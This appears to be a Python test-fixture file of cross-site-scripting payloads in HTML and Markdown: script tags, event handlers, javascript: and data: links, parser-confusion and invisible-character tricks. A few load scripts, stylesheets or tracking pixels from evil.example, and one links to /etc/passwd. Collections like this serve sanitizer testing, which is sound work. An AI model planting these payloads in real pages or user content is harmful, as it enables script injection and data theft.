# ruff: noqa: E501
"""What an attacker would write into a body: HTML, addresses, and Markdown around them. One a line;
`\\x..` and `\\u....` stand for characters that cannot be seen."""

_HTML = (
    r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/x>alert(1)</script/x>
<script
>alert(1)</script>
<script>//<![CDATA[
alert(1)//]]></script>
</script><script>alert(1)</script>
<<script>alert(1);//<</script>
<script\x00>alert(1)</script>
<\x00script>alert(1)</script>
<scr\x00ipt>alert(1)</scr\x00ipt>
<\u0455cript>alert(1)</\u0455cript>
<script src="data:text/javascript,alert(1)"></script>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)"//
<img/src=x/onerror=alert(1)>
<img src="x`<script>alert(1)</script>"`>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<img \x0bonerror=alert(1) src=x>
<img \x0conerror=alert(1) src=x>
<IMG """
    + r""""><SCRIPT>alert(1)</SCRIPT>">
<img srcset="x 1x, javascript:alert(1) 2x">
<img src="javascript:alert(1)">
<img src="image:day" onload=alert(1)>
<img src=image:day alt=x style=position:fixed;inset:0>
<image src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text y=1em>x
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><p><style><g title="</style><img src onerror=alert(1)>"></svg>
<math><a xlink:href="javascript:alert(1)">x</a></math>
<math href="javascript:alert(1)">x</math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=x onerror=alert(1)>">
<noframes><a title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><a alt="</title><img src=x onerror=alert(1)>">
<style><a title="</style><img src=x onerror=alert(1)>">
<style>@import "//evil.example";</style>
<style>*{background:url("javascript:alert(1)")}</style>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<iframe><p title="</iframe><img src=x onerror=alert(1)>">
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:alert(1)">
<applet code=x></applet>
<base href="javascript:alert(1)//">
<base href="//evil.example/"><a href="a">x</a>
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<form action="javascript:alert(1)"><button>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<isindex action=j&Tab;a&Tab;vas&Tab;c&Tab;r&Tab;ipt:alert(1) type=image>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)//></video>
<audio src=x onerror=alert(1)>
<select autofocus onfocus=alert(1)>
<keygen autofocus onfocus=alert(1)>
<table background="javascript:alert(1)"><td>x</table>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<p onmouseover=alert(1)>x</p>
<p class=x id=location name=cookie>x</p>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="java\x09script:alert(1)">x</a>
<a href="java\x0ascript:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#x3a;alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:https://example.org/1">x</a>
<a href="filesystem:https://example.org/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.example">x</a>
<a href="https:evil.example">x</a>
<a href="https://a.example@evil.example/">x</a>
<a href="https:\\evil.example">x</a>
<a href="module:../../x">x</a>
<a href="module:halt" ping="//evil.example" target=_blank>x</a>
<a href="https://example.org/" onclick=alert(1)>x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href=x:javascript:alert(1)>x</a>
<!--><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)> -->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<?xml version="1.0"?><script>alert(1)</script>
<?php echo 1 ?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<![CDATA[<script>alert(1)</script>]]>
<x onclick=alert(1)>x</x>
<custom-element onpointerrawupdate=alert(1)>x
<template><script>alert(1)</script></template>
<plaintext><script>alert(1)</script>
</p><script>alert(1)</script>
<p/onclick=alert(1)/>x
<br size="&{alert(1)}">
<b <script>alert(1)</script>0
<div title="`--`}-->`--`-->`x`"><img src=x onerror=alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;alert(1)
\u003cscript\u003ealert(1)\u003c/script\u003e
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
"""
)

_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](<javascript:alert(1)>)
[x](< javascript:alert(1)>)
[x]( javascript:alert(1) )
[x](java%73cript:alert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](\x01javascript:alert(1))
[x](java\x09script:alert(1))
[x](<java\x09script:alert(1)>)
[x](\x1fjavascript:alert(1))
[x](\u2028javascript:alert(1))
[x](\u200bjavascript:alert(1))
[x](java\u00adscript:alert(1))
[x](\uff4aavascript:alert(1))
[x](javascript\uff1aalert(1))
[x](javascript://example.org/%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/png;base64,AAAA)
[x](view-source:https://example.org)
[x](intent://x#Intent;end)
[x](sms:988?body=x)
[x](mailto:a@example.org)
[x](tel:988;phone-context=javascript:alert(1))
[x](tel:+1%0ajavascript:alert(1))
[x](https://)
[x](https:///evil.example)
[x](https://evil)
[x](https://a@evil.example)
[x](https://evil.example\@example.org)
[x](https://exa\u202emple.org)
[x](https://ex\u0430mple.org)
[x](https://example.org/"onmouseover="alert(1))
[x](https://example.org/'><script>alert(1)</script>)
[x](https://example.org/<svg/onload=alert(1)>)
[x](module:halt"onclick="alert(1))
[x](module:halt/../../api)
[x](MODULE:halt)
[x](module:HALT)
[x](image:day)
[x](/api/people)
[x](#top)
[x](?q=1)
[x]()
[<script>alert(1)</script>](module:halt)
[**<img src=x onerror=alert(1)>**](module:halt)
[x](module:halt "\"onclick=alert(1)")
[x](module:halt '<script>')
[x][y]\n\n[y]: javascript:alert(1)
[x][y]\n\n[y]: <javascript:alert(1)> "t"
[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<a@example.org>
<https://example.org/"onclick=alert(1)>
<https://example.org/<script>>
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg/onload=alert(1)>)
![x](https://evil.example/pixel.gif)
![x](//evil.example/pixel.gif)
![x](image:../../x)
![x](image:day.svg)
![x](image:day?x=1)
![x](image:day#x)
![x](image:day%2f..%2fx)
![x](module:halt)
![" onerror="alert(1)](image:day)
!["><script>alert(1)</script>](image:day)
![<b>x</b>](image:day)
![x](image:day "\" onload=alert(1)")
![[x](javascript:alert(1))](image:day)
[![x](image:day)](javascript:alert(1))
[![x](https://evil.example/x.png)](module:halt)
![x][y]\n\n[y]: javascript:alert(1)
`<script>alert(1)</script>`
```html\n<script>alert(1)</script>\n```
``` <script>alert(1)</script>\nx\n```
    <script>alert(1)</script>
> <script>alert(1)</script>
> > [x](javascript:alert(1))
- <img src=x onerror=alert(1)>
- - - [x](javascript:alert(1))
1. <svg/onload=alert(1)>
## <script>alert(1)</script>
## [x](javascript:alert(1))
### ![x](javascript:alert(1))
**<script>alert(1)</script>**
*<a href=javascript:alert(1)>*x</a>
|<script>|\n|-|\n|alert(1)|
a\\\n<script>alert(1)</script>
a  \n<script>alert(1)</script>
\\<script>alert(1)\\</script>
\\[x](javascript:alert(1))
<div\n\nonclick=alert(1)>x</div>
<p\n>\n\n<script>\n\nalert(1)\n\n</script>
<!--\n\n--><script>alert(1)</script>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
\u202e<script>alert(1)</script>\u202c
\u2066[x](javascript:alert(1))\u2069
\u200f<img src=x onerror=alert(1)>
\x00<script>alert(1)</script>
\x1b[31m<script>
\x7f<script>\x85alert(1)</script>
\ufeff<script>alert(1)</script>
\ufffe<script>alert(1)</script>
😀<script>alert(1)</script>
e\u0301\u0301\u0301<script>\u0301alert(1)
"""


def _made(line: str) -> str:
    """The line with what stands for other characters put in."""
    for stands in ("\\x", "\\u"):
        size = 2 if stands == "\\x" else 4
        parts = line.split(stands)
        line = parts[0] + "".join(chr(int(part[:size], 16)) + part[size:] for part in parts[1:])
    return line.replace("\\n", "\n").replace("\\\\", "\\")


HTML = tuple(_made(line) for line in _HTML.split("\n") if line)
MARKDOWN = tuple(_made(line) for line in _MARKDOWN.split("\n") if line)
